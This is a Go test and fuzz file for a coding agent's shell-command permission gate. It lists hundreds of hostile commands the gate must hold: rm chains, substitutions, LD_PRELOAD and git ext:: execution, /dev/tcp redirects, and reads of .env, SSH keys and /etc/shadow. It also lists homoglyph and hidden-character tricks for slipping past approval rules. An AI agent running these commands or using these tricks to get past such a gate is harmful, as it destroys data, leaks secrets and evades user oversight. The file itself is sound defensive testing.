package permission_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/agentls/agentls/agentcore/permission"
)

// everyday is what a user would allow by patterns of first words. None of it is meant to cover what the tables below
// try.
var everyday = user(
	allow("bash", "git status*"), allow("bash", "git log*"), allow("bash", "git diff*"), allow("bash", "git show*"),
	allow("bash", "git grep*"), allow("bash", "git fetch*"), allow("bash", "git branch*"),
	allow("bash", "git commit*"), allow("bash", "git push*"), allow("bash", "git blame*"), allow("bash", "git clone*"),
	allow("bash", "git ls-remote*"), allow("bash", "git rebase*"), allow("bash", "git archive*"),
	allow("bash", "git apply*"),
	allow("bash", "ls*"), allow("bash", "cat*"), allow("bash", "echo*"), allow("bash", "find*"), allow("bash", "rg*"),
	allow("bash", "grep*"), allow("bash", "sort*"), allow("bash", "sed*"), allow("bash", "awk*"),
	allow("bash", "head*"), allow("bash", "tail*"), allow("bash", "wc*"), allow("bash", "uniq*"),
	allow("bash", "xargs*"), allow("bash", "env*"), allow("bash", "go test*"), allow("bash", "go vet*"),
	allow("bash", "go build*"), allow("bash", "go env*"), allow("bash", "go list*"),
	allow("bash", "tar*"), allow("bash", "curl*"), allow("bash", "wget*"), allow("bash", "ssh*"),
	allow("bash", "rsync*"), allow("bash", "make*"), allow("bash", "npm*"), allow("bash", "python*"),
	allow("bash", "node*"), allow("bash", "man*"), allow("bash", "less*"),
	allow("bash", "vim*"), allow("bash", "test*"), allow("bash", "printf*"), allow("bash", "cd*"),
	allow("bash", "true*"), allow("bash", "timeout*"), allow("bash", "nice*"), allow("bash", "nohup*"),
	allow("bash", "sh*"), allow("bash", "bash*"), allow("bash", "command*"),
	allow("bash", "fd*"), allow("bash", "tree*"), allow("bash", "date*"), allow("bash", "jq*"), allow("bash", "tee*"),
	allow("bash", "docker*"), allow("bash", "perl*"), allow("bash", "sudo*"), allow("bash", "busybox*"),
	allow("bash", "read*"), allow("bash", "file*"), allow("bash", "split*"), allow("bash", "time*"),
	allow("bash", "gcc*"), allow("bash", "eval*"), allow("bash", "[*"), allow("bash", "base64*"), allow("bash", "xxd*"),
	allow("bash", "which*"), allow("bash", "wait*"), allow("bash", "cargo*"), allow("bash", "export*"),
	allow("bash", "alias*"), allow("bash", "set*"), allow("bash", "trap*"), allow("bash", "unset*"),
)

// TestGateLets lists commands that must not be asked for.
func TestGateLets(t *testing.T) {
	p := policy(permission.Default, everyday)
	for _, command := range []string{
		"git status", "git status --short --branch", "git log --oneline -5", "git diff HEAD~1 -- src/a.go",
		"git show HEAD:src/a.go", "git grep -n foo",
		`git commit -m "Fix: the thing (it's done); really && truly > all"`, "git commit -m 'one; rm -rf /'",
		"git push origin main", "git branch --list", "ls -la", `ls 'a b' "c d" e\ f`, `"ls" -l`, "l's' -l",
		"cat a.go | head -3 | wc -l", "(git status; ls) && echo done || echo failed", "! grep -q foo a.go",
		"if test -f a; then cat a; elif [ -d b ]; then ls b; else echo none; fi",
		"while test -f a; do echo x; done", "for i in 1 2 3; do echo x; done", "case a in a|b) ls ;; *) echo x ;; esac",
		"{ ls; git status; }", "time ls", "coproc ls", "ls & wait",
		"ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null", "ls < a.go", "cat <<'X'\ntext $(rm x) here\nX",
		"cat <<X\nplain text\nX", "cat <<< 'a word'", "[[ -f a.go && x == x ]] && ls",
		"ls src/*.go", "ls ./*", "ls *.go", "cat *.md", "find . -name '*.go' -type f", "rg -n foo src",
		"rg 'a|b' --type go", "grep -rn foo .", "sort -u a.txt", "sort -k2,2 -n a.txt", "sed -n 1,5p a.go",
		"sed 's/a/b/g' a.go",
		"go test ./...", "go test -race -run 'TestX$' ./a", "go vet ./...", "go build ./...", "go env GOPATH",
		"go list -m all", "tar tf a.tgz", "tar -xzf a.tgz", "curl -s https://example.org", "make test",
		"make -j4 all", "npm test", "npm run build", "npm ci",
		"python manage.py test", "python --version", "node a.js", "timeout 5 git status", "nice -n 5 ls", "nohup ls",
		"timeout -k 1 5 nice ls", "sh -c 'git status && ls'", "bash -c 'ls | wc -l'", "command ls", "cd src && ls",
		"cd src; go test .",
		"date +%F", "cat src/../a.go", "cat ./a.go", "ls /home/user/project/src", "rg a/b/../c", "cat .gitignore",
		"cat .github/*.yml", "git show HEAD:src/a.go", "sort < /dev/null", "cat /dev/null", "jq .a a.json",
		"fd foo", "tree -L 2", "printf '%s\\n' a", "ls # a remark; rm x", "ls \\\n  -la", "gcc -c a.c", "docker ps",
		"file a.bin", "echo {} a", "echo 'ünïcödé'", "# nothing\nls",
	} {
		if d := p.Decide(bash(command), nil); d.Action != permission.Allow {
			t.Errorf("%s: %s: %s", command, d.Action, d.Reason)
		}
	}
}

// TestGateHolds lists, by class, commands that begin with something allowed, or look like it, and do more.
func TestGateHolds(t *testing.T) {
	p := policy(permission.Default, everyday)
	for class, commands := range map[string][]string{
		"a second command": {
			"git status; rm -rf x", "git status && rm x", "git status || rm x", "git status | rm x",
			"git status & rm x", "git status\nrm x", "git status |& rm x", "(ls; rm x)", "{ ls; rm x; }", "! rm x",
			"time rm x", "coproc rm x",
			"if rm x; then ls; fi", "if ls; then rm x; fi", "if ls; then ls; else rm x; fi", "while rm x; do ls; done",
			"while ls; do rm x; done", "until ls; do rm x; done", "for i in a; do rm x; done",
			"case a in a) rm x;; esac", "case a in b) ls;; *) rm x;; esac",
			"ls; \\\nrm x", "ls;rm x", "ls<<X;rm x\nX", "ls\r\nrm x", "ls;;rm x", "ls & & rm x", "ls #\nrm x",
			"ls # \\\nrm x", "ls #\\\nrm x", "ls <<X #\\\nX\nrm x",
		},
		"prefixes": {
			"git statusx", "git-status", "lsof", "gitx status", "./ls", "/tmp/ls", "../ls", "git  push-evil",
			"catx", "ls-evil", "goo test", "env-evil",
		},
		"substitution": {
			"ls $(rm x)", "ls `rm x`", `ls "$(rm x)"`, "ls \"`rm x`\"", "ls <(rm x)", "ls > >(rm x)",
			"cat <<X\n$(rm x)\nX", "cat <<X\n`rm x`\nX", `cat <<< "$(rm x)"`, "ls ${x:-$(rm x)}",
			"ls $((a[$(rm x)]))", "$(echo rm) x", "`echo rm` x", "ls ${ rm x; }", "ls ${|rm x;}",
			"case $(rm x) in a) ls;; esac", "for i in $(rm x); do ls; done", "ls 2>$(rm x)",
			"[[ a == $(rm x) ]]", "[[ $(rm x) ]]", "echo ${a@P}", "echo $[$(rm x)]", "ls >| $(rm x)",
			"cat <<-X\n\t$(rm x)\n\tX",
		},
		"dynamic words": {
			"$X", "ls $X", "${X}", "$0", "ls$IFS-la", "rm$IFS", "cat${IFS}x", "l$@s x", `"$X"`, "ls $'\\x3b'",
			"$'rm' x", `$"rm" x`, "r\\m x", "r''m x", "'rm' x", `"rm" x`, "ls {a,b}", "{ls,-la}", "{rm,x}",
			"ls {1..3}", "ls ~", "cat ~/.ssh/id", "ls ~root", "ls a=~/x", "l? x", "/bin/r? x", "[l]s", "?(ls)",
			"ls @(a|b)", "*", "!!", "!ls",
			"l\\\ns", "ls -\\\n-x", "ls a\\",
		},
		"variables": {
			"LD_PRELOAD=./evil.so ls", "PATH=.:$PATH ls", "PATH=. ls", "GIT_SSH_COMMAND=x git fetch",
			"GIT_EXTERNAL_DIFF=x git diff", "PAGER=x git log", "X=1", "IFS=x ls", "BASH_ENV=x bash -c ls",
			"A=(b) ls", "X+=1 ls", "a[$(rm x)]=1", "export PATH=.", "declare x=1", "local x", "readonly x",
			"typeset -f", "env X=1 ls", "env LD_PRELOAD=x ls",
			"for PATH in .; do ls; done", "for GIT_PAGER in x; do git log; done", "select x in a; do ls; done",
			"coproc PATH { ls; }", "ls {PATH}>/dev/null", "exec {x}>/dev/null", "read PATH", "printf -v PATH x",
			"printf -vPATH x", "unset 'a[$(rm x)]'", "test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]",
			"[[ -v a[$(rm x)] ]]", "[[ 'a[$(rm x)]' -eq 1 ]]", "[[ a -lt b ]]", "[[ -R x ]]", "((a))", "((a=1))",
			"let a=1", "let 'a[$(rm x)]'", "wait -p x",
			"for ((i=0;i<1;i++)); do ls; done", "mapfile -C 'rm x' a", "readarray x", "getopts a PATH",
		},
		"builtins that run text": {
			"eval ls", "eval 'rm x'", "source ./x", ". ./x", "exec ls", "exec rm x",
			"builtin eval rm x", "command eval rm x", "alias ls=rm", "trap 'rm x' EXIT", "set -x",
			"shopt -s expand_aliases", "enable -f x y", "hash -p /x ls", "bind -x x", "complete -C x y", "fc -s",
			"unalias ls", "pushd .", "popd", "history", "command -p eval x", "set -o posix",
		},
		"functions": {
			"ls() { rm x; }", "ls() { echo; }; ls", "function git { ls; }",
			"function ls() { ls; }; ls",
		},
		"redirections": {
			"ls > a", "ls >> a", "ls >| a", "ls &> a", "ls &>> a", "ls <> a", "ls >& a",
			"ls 2> a", "> a", "cat < /etc/passwd", "cat < .env", "ls > .git/hooks/x", "ls >/dev/tcp/1.2.3.4/80",
			"ls </dev/tcp/1.2.3.4/80", "ls > /dev/sda", "ls > *", "{ ls; } > a", "(ls) > a", "if ls; then ls; fi > a",
			"ls 2>&1 > a", "cd src; ls > a", "ls >&$X", "ls > ''", "ls > ../../x",
		},
		"wrappers": {
			"env rm x", "env -i rm x", "env -S 'rm x'", "env -u X rm x", "env - rm x", "nice rm x", "nohup rm x",
			"timeout 5 rm x", "timeout -s KILL 5 rm x", "timeout --foreground 5 rm x", "time -p rm x",
			"command rm x", "command -p rm x", "xargs rm", "ls | xargs rm", "ls | xargs -I{} rm {}",
			"ls | xargs sh -c 'rm x'", "ls | xargs git status", "ls | xargs -a x ls",
			"sudo ls", "sudo rm x", "sh -c 'rm x'", "bash -c 'ls; rm x'", "sh x.sh", "bash ./x", "sh", "ls | sh",
			"sh <<X\nrm x\nX", "sh <<< 'rm x'", "bash -s < a", "bash --rcfile x -c ls", "bash -i", "bash -c",
			"sh -c \"rm x\" ls", "sh -c 'ls $0' x", "busybox rm x", "busybox sh -c 'rm x'", "nice -n rm x",
			"nice nice nice rm x", "timeout 5 env A=b rm", "bash -xc 'ls'", "xargs", "xargs -- rm",
			"nohup sh -c 'nice rm x'", "stdbuf -oL rm x", "setsid rm x", "script -c 'rm x'", "watch ls",
			"parallel ls", "ssh host ls", "busybox", "bash -O extglob -c ls", "nice $X", "timeout $X ls",
			"timeout 5 l*",
		},
		"git": {
			"git -c core.pager=x log", "git -c core.fsmonitor=x status", "git --config-env=a=b status",
			"git -C /tmp status", "git --git-dir=/tmp status", "git --work-tree=/ status",
			"git --exec-path=. status", "git -p log", "git --paginate log", "git diff --ext-diff",
			"git diff --output=x", "git diff --outp=x", "git log --output=x -p", "git diff --textconv",
			"git grep -O foo", "git grep -Ovim foo", "git grep --open-files-in-pager=x foo", "git grep --open foo",
			"git grep -f x",
			"git fetch --upload-pack=x", "git fetch --upload-pa x", "git push --receive-pack=x", "git push --exec=x",
			"git ls-remote --upload-pack=x .", "git ls-remote ext::x", "git clone ext::x", "git clone -c a=b x",
			"git clone --config a=b x", "git clone -u x y", "git clone --template=x y", "git fetch ext::'sh -c x'",
			"git push 'ext::x'", "git rebase -x 'rm x'", "git rebase --exec x", "git rebase -i",
			"git archive --output=x HEAD", "git archive --remote=x", "git branch --edit-description",
			"git apply --unsafe-paths x", "git diff --no-index /etc/passwd a",
			"git blame --contents /etc/passwd a", "git commit -F /etc/passwd", "git commit --file=/etc/passwd",
			"git commit -S", "git log *", "git diff -*", "git --namespace=x status", "git --super-prefix=x status",
			"cd evil && git status", "cd src; git log", "git log --exec", "git fetch --recurse-submodules",
		},
		"options that run or write": {
			"find . -exec rm {} ;", "find . -exec rm {} +", "find . -execdir rm {} \\;", "find . -ok rm {} \\;",
			"find . -okdir rm {} \\;", "find . -delete", "find . -fprint x", "find . -fprintf x y", "find . -fls x",
			"find . -fprint0 x", "find * -name x", "find -files0-from x", "fd -x rm", "fd --exec rm", "fd -X rm",
			"fd foo --exec-b rm", "rg --pre x y", "rg --pre=x y", "rg --hostname-bin=x y", "rg -z x",
			"rg --search-zip x", "rg *", "sort -o x a", "sort -ox a", "sort --output=x a", "sort --outp=x a",
			"sort --compress-program=x a", "sort --comp x a", "sort -uo x a", "sort -T x a", "sort *",
			"sed -i s/a/b/ x", "sed -n -i p x", "sed --in-place s/a/b/ x", "sed 's/a/b/e' x", "sed 's/a/b/w y' x",
			"sed '1e rm x' x", "sed e x", "sed 'w x' y", "sed -f x y", "sed --file=x y", "sed '1r /etc/passwd' x",
			"sed -e p -e 'e rm' x", "sed --expression='e rm x' y", "sed -ne 'w x' y", "sed 's/a/b/;e rm' x",
			"sed '1{e rm\n}' x", "sed -s -i p x", "sed 'y/a/b/;w x' x", "sed 's|a|b|w x' y", "sed 's/x/y/ge' a",
			"awk 'BEGIN{system(\"rm x\")}'", "awk '{print > \"x\"}' a", "awk -f x",
			"go test -exec x", "go test -exec=x ./...", "go test --exec x", "go test -toolexec x", "go vet -vettool=x",
			"go build -toolexec=x", "go build -o /tmp/x", "go test -o x", "go test -c -o x", "go build -overlay x",
			"go build -modfile=x", "go test -coverprofile=x", "go test -test.cpuprofile=x", "go test -ldflags=x",
			"go env -w X=y", "go env -u X", "go env --w X=y", "go -C /tmp test", "go run .", "go test -C /tmp",
			"go list -toolexec=x", "go test -cpuprofile x",
			"tar -cf a --to-command=x", "tar --use-compress-program=x -xf a", "tar -I x -xf a",
			"tar --checkpoint=1 --checkpoint-action=exec=x", "tar --checkpoint-a=x", "tar xIf x a", "tar -xPf a",
			"tar cf a *", "tar -F x -cf a b", "tar --info-script=x", "tar --rsh-command=x -cf h:a b", "curl -o x y",
			"curl --output x y", "curl -O y", "curl -sO y", "curl -K x", "curl --config x",
			"curl -d @/etc/passwd y", "curl --data-b @x y", "curl -T x y", "curl -F a=@x y", "curl -sLo x y",
			"curl -H @/etc/passwd x", "curl -w@/etc/passwd x", "curl file:///etc/passwd", "curl --unix-socket /s x",
			"curl -b a x", "wget x", "wget -O x y", "wget --use-askpass=x y",
			"ssh -o ProxyCommand=x h", "ssh h rm", "rsync -e x a b", "rsync --rsh=x a b", "rsync a h:b",
			"rsync -ave x a b", "rsync --rsync-path=x a b", "make -f x", "make --eval=x", "make SHELL=x",
			"make -C /tmp", "make --file=x", "make -sf x", "npm exec x", "npm x", "npm --prefix x test",
			"npm --script-shell=x test", "npm -C x test", "npm run x --script-shell y", "npm config set x y",
			"npm --loglevel silent exec x", "python -c 'x'", "python3 -cx", "python3.12 -c x", "python -m x",
			"python -", "python", "python -Wx a", "python -i a", "perl -e x", "perl -ne x", "perl -pi -e x",
			"node -e x", "node --eval x", "node -p x", "node -r x a", "node --require=x a", "node", "man -P x y",
			"man --pager=x y", "man -H x", "less a", "vim a", "vim -c '!rm' a",
			"git log -O/etc/passwd", "curl -w '%output{x}' y", "curl --write-out %output{x} y",
			"curl --url-query x@a y", "curl --ssl-sessions x y", "node inspect a.js", "node debug a.js",
			"python -X pycache_prefix=x a.py", "cargo fix", "cargo clippy --fix", "cargo build --target-dir x",
			"cargo -C x build", "jq -f x", "tree -o x", "date -s x", "date -f x", "tee x", "docker run x",
			"docker -H x ps", "docker exec x y", "file -C x", "file -m x y", "split --filter=x a", "uniq a b",
			"xxd -r a b", "gcc -wrapper x a", "gcc -fplugin=x a", "gcc @x", "gcc -B. a", "cargo run",
			"cargo +nightly build", "cargo --config x build", "grep -f /etc/passwd a", "test *",
			"wc --files0-from=x",
		},
		"secrets and places": {
			"cat .env", "cat ./.ENV", "cat src/../.env", "cat id_rsa", "grep . .env.local",
			"cat /home/user/.netrc", "cat .e*", "cat .en?", "cat sub/.e[n]v", "git show HEAD:.env", "cat /etc/shadow",
			"cat ../../etc/passwd", "cat src/../../x", "grep --file=/etc/passwd x a", "grep -f/etc/passwd a",
			"head -n5 /proc/self/environ", "find / -name x", "gcc a.c -o/usr/bin/x", "tar -xzf a.tgz -C /tmp",
			"cp a /etc/x", "echo /etc/shadow | xargs cat", "echo .env | xargs cat", "ls | xargs -n1 head",
			"cd /tmp && ls", "cd ..", "cd", "cd -", "cd src/../..", "cd *",
		},
		"hidden characters": {
			"git\u00a0status", "ls\u3000-la", "ls \u202ermx", "ls \u200b", "ls \x00",
			"ls \x1b[2K", "ls \x07", "ls \xff", "ls \u2028rm x", "ls\u0085rm", "ls\vx", "ls \r", "ls \U000e0041",
			"ls \ufeff", "ls \u3164", "\u200bls", "ls \u2800",
		},
		"what is not understood": {
			"", " ", "\n", "# nothing", "ls '", `ls "`, "ls (", "ls )", "if", "ls |", "&& ls",
			"ls <<X", "ls `", "ls $(", strings.Repeat("(", 10000), strings.Repeat("ls;", 50000), "ls ${", "case",
			"[[ x", "ls >", "function", "}", "ls &&", "; ls", "sh -c \"sh -c 'sh -c \\\"rm x\\\"'\"",
			strings.Repeat("nice ", 30) + "ls",
		},
		"lookalikes": {"gіt status", "ⅼs", "ｌs", "rｍ x"},
	} {
		for _, command := range commands {
			if d := p.Decide(bash(command), nil); d.Action == permission.Allow {
				t.Errorf("%s: %q is allowed: %s", class, command, d.Reason)
			}
			if d := policy(permission.Default).Decide(sandboxed(command), nil); d.Action != permission.Allow {
				t.Errorf("%s: %q is not allowed in a full sandbox: %s", class, command, d.Reason)
			}
		}
	}
}

// TestGateEnds gives the gate what a parser could take for ever on.
func TestGateEnds(t *testing.T) {
	p := policy(permission.Default, everyday, user(deny("bash", "git push --force x -y z*")))
	for _, command := range []string{
		"git" + strings.Repeat(" -x", 20000), "git" + strings.Repeat(" -x y", 9000), strings.Repeat("$(", 30000),
		strings.Repeat("ls $(", 9000) + strings.Repeat(")", 9000), strings.Repeat("`", 60000),
		strings.Repeat("(", 60000), strings.Repeat("{ ", 30000), strings.Repeat("${a", 20000),
		strings.Repeat("if ", 20000), strings.Repeat("ls;", 20000), strings.Repeat("ls>a ", 10000),
		strings.Repeat("$((", 20000), strings.Repeat("a[", 30000),
		strings.Repeat("strace ", 9000), strings.Repeat("strace a=", 5000), strings.Repeat("strace 'x y' ", 250),
		"su -c " + nest("su -c a='b c' ", 12), "perl -e " + nest("perl -e x=y ", 12),
		strings.Repeat("find . -exec ", 4000), strings.Repeat("perl -e 'git push' ", 100),
		"watch " + strings.Repeat("'watch \"watch x\"' ", 200),
		strings.Repeat("sudo ", 12000), strings.Repeat("ls <<a ", 9000), strings.Repeat("{a,", 20000),
		strings.Repeat("*", 60000), strings.Repeat("[[ ! ", 12000),
	} {
		if d := p.Decide(bash(command), nil); d.Action == permission.Allow {
			t.Errorf("%.20s…: %s", command, d.Reason)
		}
	}
}

// nest quotes a command in itself.
func nest(start string, depth int) string {
	text := "x"
	for range depth {
		text = "'" + strings.ReplaceAll(start+text, "'", `'\''`) + "'"
		if len(text) > 60000 {
			break
		}
	}
	return text
}

// TestPatterns is about what the words of a pattern match.
func TestPatterns(t *testing.T) {
	for _, c := range []struct {
		pattern, command string
		want             bool
	}{
		{"git status*", "git status", true},
		{"git status*", "git status -s", true},
		{"git status *", "git status -s", true},
		{"git status *", "git status", true},
		{"git status*", "git statusx", false},
		{"git status*", "git", false},
		{"git status", "git status", true},
		{"git status", "git status -s", false},
		{"npm run test:*", "npm run test:unit -x", true},
		{"npm run test:*", "npm run test", false},
		{"npm run * --ci", "npm run a --ci", true},
		{"npm run * --ci", "npm run a b --ci", false},
		{"./scripts/*", "./scripts/a.sh x", true},
		{"./scripts/*", "./scripts/../../bin/x", false},
		{"./scripts/*", "./scripts/..", false},
		{"foo**", "foobar x", true},
		{"echo 'a b'", `echo "a b"`, true},
		{"echo 'a b'", "echo a b", false},
		{`echo '*'`, `echo '*'`, true},
		{`echo '*'`, `echo 'x'`, false},
		{`echo '*'`, `echo *`, false},
		{`echo a\ b`, `echo 'a b'`, true},
		{"find . -delete", "find . -delete", true},
		{"find . -delete*", "find . -delete", false},
		{"*", "find . -delete", true},
		{"", "eval $X", true},
		{"echo 'a", "echo a", false},
		{"echo 'a", "echo", false},
		{"python -c 'print(1)'", `python -c "print(1)"`, true},
		{"python -c 'print(1)'", `python -c "print(2)"`, false},
	} {
		p := policy(permission.Default, user(allow("bash", c.pattern)))
		if d := p.Decide(bash(c.command), nil); (d.Action == permission.Allow) != c.want {
			t.Errorf("%s with %s: %s: %s", c.pattern, c.command, d.Action, d.Reason)
		}
	}
}

func TestVisible(t *testing.T) {
	for text, want := range map[string]string{
		"git status": "git status", "a\nb\tc\rd": `a\nb\tc\rd`, "\x1b[2K\x00\x7f": `\x1b[2K\x00\x7f`,
		"a\u202eb\u200bc\u00a0d": `a\u202eb\u200bc\u00a0d`, "\xff\xfe": `\xff\xfe`, "\ufffd": "\ufffd",
		"\U000e0041": `\U000e0041`, "ü漢🙂": "ü漢🙂", "\u0085": `\u0085`,
	} {
		if got := permission.Visible(text); got != want {
			t.Errorf("Visible(%q) = %q, not %q", text, got, want)
		}
	}
}

// FuzzGate looks for panics, for words that were lost, and for an allowed command that a deny of the same words would
// not have caught.
func FuzzGate(f *testing.F) {
	for _, seed := range []string{
		"ls; rm x", "git status && sh -c 'rm x'", "cat <<X\n$(x)\nX", "a[$(x)]=1 b",
		"find . -exec x {} +", "ls $'x' {a,b} ~ *", "case a in b) c;; esac > d", "env -S 'x y'",
		"xargs -I{} sh -c {}",
	} {
		f.Add(seed)
	}
	allowing, denying := policy(permission.Default, user(allow("bash", "ls*"), allow("bash", "git status*"))),
		policy(permission.Default, user(allow("bash", "*"), deny("bash", "ls*"), deny("bash", "git status*")))
	f.Fuzz(func(t *testing.T, command string) {
		a, d := allowing.Decide(bash(command), nil), denying.Decide(bash(command), nil)
		// not only redirected input
		ruled := slices.ContainsFunc(a.Parts, func(p permission.Part) bool { return p.Rule != nil })
		if a.Action == permission.Allow && ruled && d.Action == permission.Allow {
			t.Errorf("%q is allowed, %s; and is not kept by the same rules that deny", command, a.Reason)
		}
		if len(a.Parts) == 0 || len(d.Parts) == 0 {
			t.Errorf("%q has no part", command)
		}
	})
}
